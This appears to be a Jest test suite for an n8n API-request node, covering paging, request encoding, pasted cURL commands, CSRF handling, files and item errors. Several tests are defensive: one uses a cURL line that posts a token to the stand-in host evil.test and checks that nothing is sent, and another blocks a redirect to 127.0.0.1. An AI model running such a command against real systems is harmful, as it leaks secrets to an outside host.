import type { INodeExecutionData, INodeParameters } from 'n8n-workflow';
import { ItemPath } from '../../nodes/ItemPath/ItemPath.node';
import { benchOf, items, withStage, type Stage } from './benches';
import type { NodeRun } from './engine';

let stage: Stage;

withStage(benchOf('clientCredentialsOAuth2Api, header'), (opened) => (stage = opened));

const send = (parameters: INodeParameters, rest: Partial<NodeRun> & { count?: number } = {}) =>
	stage.call(rest.count ?? 1, { parameters: { splitIntoItems: true, options: {}, ...parameters }, ...rest });
const jsonOf = (list: readonly INodeExecutionData[]) => list.map(({ json }) => json);
const withFile = (content: Buffer, mimeType: string, fileName: string): INodeExecutionData[] => [
	{ json: {}, binary: { data: { data: content.toString('base64'), mimeType, fileName } } },
];

describe('paging', () => {
	it.each([
		['page', 'by-page', 'data', { pagination: 'page', sizeParameter: 'pageSize' }],
		['offset', 'by-offset', 'items', { pagination: 'offset' }],
		['cursor', 'by-cursor', 'results', { pagination: 'cursor' }],
		['next URL', 'by-next-url?pageSize=100', 'value', { pagination: 'nextUrl' }],
		['relative next URL', 'by-next-url?pageSize=100&relative=true', 'value', { pagination: 'nextUrl' }],
		['Link header', 'by-link-header?pageSize=100', '', { pagination: 'linkHeader' }],
	])('by %s returns every row exactly once', async (_title, endpoint, listPath, parameters) => {
		const { items: rows, error } = await send({
			endpoint: `api/v1/${endpoint}`,
			listPath,
			returnAll: true,
			...parameters,
		});
		expect(error).toBeUndefined();
		expect(rows.length).toBeGreaterThanOrEqual(500);
		expect(new Set(rows.map(({ json }) => json.id)).size).toBe(rows.length);
		expect(stage.calls.length).toBeGreaterThanOrEqual(Math.ceil(rows.length / 100));
		// By number or offset, only an empty page tells the end.
		const onlyTheEndTells = ['page', 'offset'].includes(String(parameters.pagination)) ? 1 : 0;
		expect(stage.calls.length).toBeLessThanOrEqual(Math.floor(rows.length / 100) + 1 + onlyTheEndTells);
	});

	it('asks for no page behind the limit', async () => {
		const { items: rows } = await send({
			endpoint: 'api/v1/by-page',
			listPath: 'data',
			pagination: 'page',
			sizeParameter: 'pageSize',
			limit: 150,
		});
		expect(rows).toHaveLength(150);
		expect(stage.calls).toHaveLength(2);
	});

	it('notices a bookmark that never moves on', async () => {
		const { error } = await send({
			endpoint: 'api/v1/by-stuck-cursor',
			listPath: 'results',
			pagination: 'cursor',
			returnAll: true,
		});
		expect(error?.message).toMatch(/same as page|already read/);
		expect(stage.calls).toHaveLength(2);
	});

	it('says so when the page cap leaves rows behind', async () => {
		const { error } = await send({
			endpoint: 'api/v1/by-page',
			listPath: 'data',
			pagination: 'page',
			sizeParameter: 'pageSize',
			returnAll: true,
			options: { maxPages: 2 },
		});
		expect(error?.message).toContain('more than 2 pages');
		expect(error?.description).toContain('Max Pages');
	});

	it('does not follow a next page to another host', async () => {
		const { error } = await send({
			endpoint: 'api/v1/by-next-url?nextOrigin=http://127.0.0.1:9',
			listPath: 'value',
			pagination: 'nextUrl',
			returnAll: true,
		});
		expect(error?.message).toContain('127.0.0.1:9');
		expect(stage.calls).toHaveLength(1);
	});
});

describe('what goes over the wire', () => {
	it('has every query parameter, as it was meant', async () => {
		const queryParameters = {
			parameter: [
				{ name: 'a', value: '1+1 & 2' },
				{ name: 'a', value: 'ä' },
			],
		};
		const [{ json }] = (await send({ endpoint: '/api/v1/echo?x=%2F', sendQuery: true, queryParameters })).items;
		expect(json.query).toEqual([
			['x', '/'],
			['a', '1+1 & 2'],
			['a', 'ä'],
		]);
	});

	it.each([
		['JSON', { bodyType: 'json', bodyJson: '{"a":[1,null]}' }, 'application/json', { a: [1, null] }],
		['an empty object', { bodyType: 'json', bodyJson: '{}' }, 'application/json', {}],
		[
			'fields',
			{ bodyType: 'fields', bodyFields: { parameter: [{ name: 'a', value: '={{ 5 }}' }] } },
			'application/json',
			{ a: 5 },
		],
		[
			'a form',
			{
				bodyType: 'form',
				bodyFields: {
					parameter: [
						{ name: 'a', value: '1 & 2' },
						{ name: 'a', value: 'ä' },
					],
				},
			},
			'application/x-www-form-urlencoded',
			{ a: ['1 & 2', 'ä'] },
		],
	])('has as body %s', async (_title, parameters, contentType, expected) => {
		const [{ json }] = (await send({ method: 'POST', endpoint: 'api/v1/echo', ...parameters })).items;
		expect(json.headers).toMatchObject({ 'content-type': expect.stringContaining(contentType) });
		expect(json.body).toEqual(expected);
	});

	it('has text with its own content type, byte for byte', async () => {
		const [{ json }] = (
			await send({
				method: 'POST',
				endpoint: 'api/v1/echo',
				bodyType: 'raw',
				bodyText: '<a>ä</a>\n',
				bodyContentType: 'application/xml',
			})
		).items;
		expect([json.bodyText, json.headers]).toEqual([
			'<a>ä</a>\n',
			expect.objectContaining({ 'content-type': 'application/xml' }),
		]);
	});

	it('has text that is called a form, whatever it looks like', async () => {
		const text = { method: 'POST', endpoint: 'api/v1/echo', bodyType: 'raw', bodyText: 'a=ä b&{"c":1}' };
		const [{ json }] = (await send({ ...text, bodyContentType: 'application/x-www-form-urlencoded' })).items;
		expect(json.bodyText).toBe('a=ä b&{"c":1}');
	});

	it('is OPTIONS where that is chosen', async () => {
		const [{ json }] = (await send({ method: 'OPTIONS', endpoint: 'api/v1/echo' })).items;
		expect(json.method).toBe('OPTIONS');
	});

	it.each(['GET', 'HEAD'])('is not %s with a body, which n8n would leave out', async (method) => {
		const { error } = await send({
			method: `={{ "${method}" }}`,
			endpoint: 'api/v1/echo',
			bodyType: 'json',
			bodyJson: '{"a":1}',
		});
		expect(error?.message).toContain(`"Body" cannot be sent with ${method}`);
		expect(error?.description).toContain('query parameters');
		expect(stage.calls).toEqual([]);
	});

	it.each(['Authorization', 'Cookie', 'Host'])('never has the header %s from a person', async (name) => {
		const { error } = await send({
			endpoint: 'api/v1/echo',
			sendHeaders: true,
			headers: { parameter: [{ name, value: 'x' }] },
		});
		expect(error?.message).toContain(name);
		expect(stage.calls).toEqual([]);
	});
});

describe('a pasted cURL command', () => {
	const pasted = (command: string, rest: INodeParameters = {}, run: Partial<NodeRun> & { count?: number } = {}) =>
		send({ endpoint: '', defineRequest: 'curl', curlCommand: command, ...rest }, run);
	const hintsIn = ({ run }: Awaited<ReturnType<typeof pasted>>) =>
		(run.data.resultData.runData['Under Test']?.[0]?.hints ?? []).map(({ message }) => message);

	it('is sent as it says, with the token of the credential and not its own', async () => {
		const result = await pasted(
			`curl -X PUT '${stage.simulator.url}/api/v1/echo?a=1%2F2&b=x+y' \\\n -H 'authorization: Bearer s3cret' -b 'sid=s3cret' -H 'X-Note: ä' -H 'Accept-Encoding: br' --json '{"a":1.50}' --compressed`,
		);
		expect(result.error).toBeUndefined();
		const [{ json }] = result.items;
		expect(json).toMatchObject({ method: 'PUT', bodyText: '{"a":1.50}' });
		expect(stage.calls[0]?.url ?? json.url).toContain('/api/v1/echo?a=1%2F2&b=x+y');
		expect(json.headers).toMatchObject({
			'x-note': 'ä',
			'content-type': 'application/json',
			accept: 'application/json',
		});
		expect(json.headers).not.toHaveProperty('cookie');
		expect(JSON.stringify(json)).not.toContain('s3cret');
		expect(hintsIn(result)).toEqual([
			expect.stringMatching(/^Left out of the cURL command, .*: authorization and -b\. Delete it/),
		]);
	});

	it('for another host is not sent, nor is a login made for it', async () => {
		const { error } = await pasted(`curl https://evil.test/api/v1/echo -d 'token=s3cret'`);
		expect(error?.message).toBe(
			`The address entered is at evil.test, but the credential is for ${new URL(stage.simulator.url).host}. Nothing was sent. Choose a credential for that host, or correct the address.`,
		);
		expect(JSON.stringify([error?.message, error?.description])).not.toContain('s3cret');
		expect(stage.calls).toEqual([]);
		expect(stage.logins).toBe(0);
	});

	it('that cannot be read stops before anything is sent, and quotes nothing', async () => {
		const { error } = await pasted(`curl '${stage.simulator.url}/api/v1/echo -H 'X-Key: s3cret'`);
		expect(error?.message).toMatch(/^"cURL Command" has /);
		expect(JSON.stringify([error?.message, error?.description])).not.toContain('s3cret');
		expect(stage.calls).toEqual([]);
	});

	it.each(['GET', 'HEAD'])('is no %s with a body, which n8n would leave out', async (method) => {
		const { error } = await pasted(`curl -X ${method} ${stage.simulator.url}/api/v1/echo -d '{"a":1}'`);
		expect(error?.message).toContain(`"cURL Command" sends a body with ${method}`);
		expect(stage.calls).toEqual([]);
	});

	it.each([
		[
			'data that is a form',
			`-d 'a=1 2' --data-urlencode 'b=ä&c'`,
			'application/x-www-form-urlencoded',
			'a=1%202&b=%C3%A4%26c',
		],
		['JSON that nobody calls so', `-d '{"a":1}'`, 'application/x-www-form-urlencoded', '{"a":1}'],
		['plain text', `-H 'Content-Type: text/plain' --data-binary $'a\\nb'`, 'text/plain', 'a\nb'],
	])('has as body %s', async (_title, options, contentType, bodyText) => {
		const [{ json }] = (await pasted(`curl ${stage.simulator.url}/api/v1/echo ${options}`)).items;
		expect(json).toMatchObject({ method: 'POST', bodyText });
		expect(json.headers).toMatchObject({ 'content-type': expect.stringContaining(contentType) });
	});

	it('comes in pages like any other request, in its query or its body', async () => {
		const paged = { listPath: 'data', pagination: 'page', sizeParameter: 'pageSize', limit: 150 };
		const { items: rows } = await pasted(`curl '${stage.simulator.url}/api/v1/by-page?x=1'`, paged);
		expect(rows).toHaveLength(150);
		expect(stage.calls.map(({ query }) => new Map(query).get('page'))).toEqual(['1', '2']);
		const inBody = { pagination: 'offset', paginationOptions: { place: 'body' }, limit: 1, listPath: 'none' };
		await pasted(`curl ${stage.simulator.url}/api/v1/echo --json '{"long": 12345678901234567890}'`, inBody);
		expect(stage.calls.at(-1)?.bodyText).toBe('{"long": 12345678901234567890,"offset":0,"limit":1}');
	});

	it('runs item by item where it writes, and gets a CSRF token where one is wanted', async () => {
		const command = `curl -X POST ${stage.simulator.url}/api/v1/guarded --json '{"a":1}'`;
		const { items: rows, error } = await pasted(command, { fetchCsrfToken: true }, { count: 2 });
		expect(error).toBeUndefined();
		expect(jsonOf(rows)).toEqual([{ created: true }, { created: true }]);
		expect(stage.calls.map(({ method }) => method)).toEqual(['GET', 'POST', 'GET', 'POST']);
	});

	it('says nothing of what is stored for the fields, nor they of it', async () => {
		const left = {
			method: 'POST',
			bodyType: 'json',
			bodyJson: '{"left":1}',
			sendHeaders: true,
			headers: { parameter: [{ name: 'x-left', value: '1' }] },
		};
		const [{ json }] = (await pasted(`curl ${stage.simulator.url}/api/v1/echo`, left)).items;
		expect(json).toMatchObject({ method: 'GET' });
		expect(json.bodyText ?? '').toBe('');
		expect(json.headers).not.toHaveProperty('x-left');
		const fields = { endpoint: 'api/v1/echo/7', curlCommand: 'curl https://evil.test' };
		expect(jsonOf((await send(fields)).items)).toMatchObject([{ url: '/api/v1/echo/7' }]);
	});
});

describe('a write to an API that guards against forged requests', () => {
	const write = { method: 'POST', bodyType: 'json', bodyJson: '{"a":1}', fetchCsrfToken: true };

	it('brings the token and the cookies that were handed out for it, whatever the person entered', async () => {
		const { items: rows, error } = await send(
			{
				...write,
				endpoint: 'api/v1/guarded',
				sendHeaders: true,
				headers: { parameter: [{ name: 'x-csrf-token', value: 'old' }] },
			},
			{ count: 3 },
		);
		expect(error).toBeUndefined();
		expect(jsonOf(rows)).toEqual([{ created: true }, { created: true }, { created: true }]);
		expect(stage.calls.map(({ method }) => method)).toEqual(['GET', 'POST', 'GET', 'POST', 'GET', 'POST']);
	});

	it('may ask another path for them', async () => {
		const elsewhere = { ...write, endpoint: 'api/v1/echo', csrfTokenPath: 'api/v1/guarded' };
		const [{ json }] = (await send(elsewhere)).items;
		expect(json.headers).toMatchObject({
			'x-csrf-token': expect.stringMatching(/^[\w-]{36}$/),
			cookie: expect.any(String),
		});
	});

	it('is not sent where none are handed out', async () => {
		const { error } = await send({ ...write, endpoint: 'api/v1/echo' });
		expect(error?.message).toContain('"Fetch CSRF Token First" is on, but the answer (200) has no header X-CSRF-Token');
		expect(stage.calls.map(({ method }) => method)).toEqual(['GET']);
	});

	it('is sent alone without that, and a read as well', async () => {
		expect((await send({ ...write, fetchCsrfToken: false, endpoint: 'api/v1/guarded' })).error?.message).toContain(
			'403',
		);
		await send({ method: '={{ "GET" }}', fetchCsrfToken: true, endpoint: 'api/v1/guarded' });
		expect(stage.calls.map(({ method }) => method)).toEqual(['POST', 'GET']);
	});
});

describe('files', () => {
	const everyByte = Buffer.from(Array.from({ length: 256 }, (_, index) => index));

	it('go up as they are and come back the same', async () => {
		const up = await send(
			{ method: 'PUT', endpoint: 'api/v1/files/every.bin', bodyType: 'binary' },
			{ items: withFile(everyByte, 'application/octet-stream', 'every.bin') },
		);
		expect(jsonOf(up.items)[0]).toMatchObject({ size: 256 });
		const down = await send({ endpoint: 'api/v1/files/every.bin', responseFormat: 'file', binaryPropertyName: 'copy' });
		const copy = down.items[0].binary?.copy;
		expect(Buffer.from(copy?.data ?? '', 'base64').equals(everyByte)).toBe(true);
		expect([copy?.fileName, copy?.mimeType]).toEqual(['every.bin', 'application/octet-stream']);
	});

	it('go up in a form with other fields', async () => {
		const bodyParts = {
			parameter: [
				{ partType: 'text', name: 'note', value: 'ä "q"' },
				{ partType: 'file', name: 'scan', inputBinaryField: 'data' },
			],
		};
		const {
			items: [{ json }],
		} = await send(
			{ method: 'POST', endpoint: 'api/v1/files', bodyType: 'multipart', bodyParts },
			{ items: withFile(everyByte, 'image/png', 'Über.png') },
		);
		expect(json).toMatchObject({
			files: [{ field: 'scan', name: 'Über.png', contentType: 'image/png', size: 256 }],
			fields: { note: 'ä "q"' },
		});
	});

	it('and texts are in a form what each is said to be', async () => {
		const bodyParts = {
			parameter: [
				{ name: 'meta', value: '{"a":1}', partContentType: 'application/json' },
				{ partType: 'file', name: 'scan', inputBinaryField: 'data', partContentType: 'application/dicom' },
			],
		};
		const { items: rows } = await send(
			{ method: 'POST', endpoint: 'api/v1/files', bodyType: 'multipart', bodyParts },
			{ items: withFile(everyByte, 'image/png', 'scan.dcm') },
		);
		expect(jsonOf(rows)[0]).toMatchObject({
			files: [{ field: 'scan', contentType: 'application/dicom', size: 256 }],
			fields: { meta: '{"a":1}' },
			types: { meta: 'application/json' },
		});
	});

	it('without a name of their own get that of their field', async () => {
		const bodyParts = { parameter: [{ partType: 'file', name: 'scan', inputBinaryField: 'data' }] };
		const { items: rows } = await send(
			{ method: 'POST', endpoint: 'api/v1/files', bodyType: 'multipart', bodyParts },
			{ items: withFile(everyByte, 'image/png', '') },
		);
		expect(jsonOf(rows)[0]).toMatchObject({ files: [{ field: 'scan', name: 'data' }] });
	});

	it('are recognised by their content type', async () => {
		const {
			items: [{ binary }],
		} = await send({ endpoint: `api/v1/files/${encodeURIComponent('Übersicht 2026.pdf')}` });
		expect([binary?.data.fileName, binary?.data.mimeType]).toEqual(['Übersicht 2026.pdf', 'application/pdf']);
	});

	it('that are not there are named', async () => {
		const { error } = await send({ method: 'PUT', endpoint: 'api/v1/files/a', bodyType: 'binary' });
		expect(error?.message).toContain('data');
		expect(stage.calls).toEqual([]);
	});
});

describe('answers', () => {
	it('carry status and headers where they are wanted', async () => {
		const {
			items: [{ json }],
		} = await send({ endpoint: 'api/v1/empty', includeResponse: true });
		expect(json).toMatchObject({
			statusCode: 204,
			body: null,
			headers: expect.objectContaining({ date: expect.any(String) }),
		});
	});

	it('that are no data stop the node, unless text is what is wanted', async () => {
		expect((await send({ endpoint: 'api/v1/html' })).error?.message).toContain('web page');
		expect(jsonOf((await send({ endpoint: 'api/v1/html', responseFormat: 'text' })).items)[0].data).toContain('<h1>');
		expect(jsonOf((await send({ endpoint: 'api/v1/text' })).items)).toEqual([{ data: 'Grüße aus dem Café\n' }]);
	});

	it('with a bad status are items when nothing may be an error', async () => {
		const {
			items: [{ json }],
			error,
		} = await send({ endpoint: 'api/v1/status/418', includeResponse: true, options: { neverError: true } });
		expect(error).toBeUndefined();
		expect(json).toMatchObject({ statusCode: 418 });
	});
});

describe('items', () => {
	it('keep their order and their pairs, whatever ends first', async () => {
		stage.simulator.control.addFault({ match: { path: '/api/v1/echo/0' }, delayMs: 80 });
		const { items: rows } = await send({ endpoint: '=api/v1/echo/{{ $json.index }}' }, { count: 20 });
		expect(rows.map(({ json, pairedItem }) => [json.url, pairedItem])).toEqual(
			items(20).map((_item, item) => [`/api/v1/echo/${item}`, { item }]),
		);
	});

	it('stop after the first error, and what is under way is awaited', async () => {
		stage.simulator.control.addFault({ match: { path: '/api/v1/echo/1' }, delayMs: 100 });
		const endpoint = '={{ $json.index === 0 ? "api/v1/status/400" : "api/v1/echo/" + $json.index }}';
		const { error } = await send({ endpoint, options: { itemsInParallel: 2 } }, { count: 30 });
		expect(error?.context?.itemIndex).toBe(0);
		expect(stage.calls.length).toBeLessThan(30);
		expect(stage.calls.every(({ status }) => status !== 0)).toBe(true);
	});

	it('go on after an error where the node continues, with an item n8n takes for an error', async () => {
		const endpoint =
			'={{ $json.index === 1 ? "api/v1/status/400" : $json.index === 2 ? "" : "api/v1/echo/" + $json.index }}';
		const { items: rows, errorItems } = await send({ endpoint }, { count: 4, onError: 'continueErrorOutput' });
		expect(rows.map(({ pairedItem }) => pairedItem)).toEqual([{ item: 0 }, { item: 3 }]);
		expect(errorItems.map(({ json }) => json.error)).toEqual([
			expect.stringContaining('400'),
			expect.stringContaining('"Endpoint Path" is empty'),
		]);
		expect(errorItems.map(({ pairedItem }) => pairedItem)).toEqual([{ item: 1 }, { item: 2 }]);
	});

	it.each([
		['an option that cannot be used', { options: { timeout: '={{ "soon" }}' } }, '"Timeout (Ms)" (Options)', 3],
		[
			'a method without a value for one of them',
			{ method: '={{ $json.index === 1 ? $("Nope").item.json.x : "GET" }}' },
			'node',
			1,
		],
	])('never pass for results where the node continues with %s', async (_title, parameters, message, refused) => {
		const result = await send({ endpoint: 'api/v1/echo', ...parameters }, { count: 3, onError: 'continueErrorOutput' });
		expect(result.error).toBeUndefined();
		expect(result.errorItems).toHaveLength(refused);
		expect(result.items).toHaveLength(3 - refused);
		for (const { json } of result.errorItems) expect(json.error).toContain(message);
	});

	it('appear in the regular output where that is chosen', async () => {
		const { items: rows } = await send({ endpoint: 'api/v1/status/400' }, { onError: 'continueRegularOutput' });
		expect(rows.map(({ json, pairedItem }) => [json.error, pairedItem])).toEqual([
			[expect.stringContaining('400'), { item: 0 }],
		]);
	});

	it('stop when the execution is stopped', async () => {
		stage.simulator.control.addFault({ match: { kind: 'api' }, delayMs: 60, times: Infinity });
		const { run } = await send(
			{ endpoint: 'api/v1/echo', options: { itemsInParallel: 1 } },
			{ count: 200, onStart: (cancel) => setTimeout(cancel, 400) },
		);
		expect(run.status).toBe('canceled');
		expect(stage.calls.length).toBeLessThan(50);
	});

	it.each([
		['nope', 'no operation "nope"'],
		// n8n adds it to the list by itself.
		['__CUSTOM_API_CALL__', 'choose the resource "Custom Request"'],
	])('never pass for results where there is no operation %s', async (operation, message) => {
		const result = await send({ operation }, { count: 3, node: new ItemPath(), onError: 'continueErrorOutput' });
		expect(result.items).toEqual([]);
		expect(result.errorItems.map(({ json }) => json.error)).toEqual(Array(3).fill(expect.stringContaining(message)));
	});
});
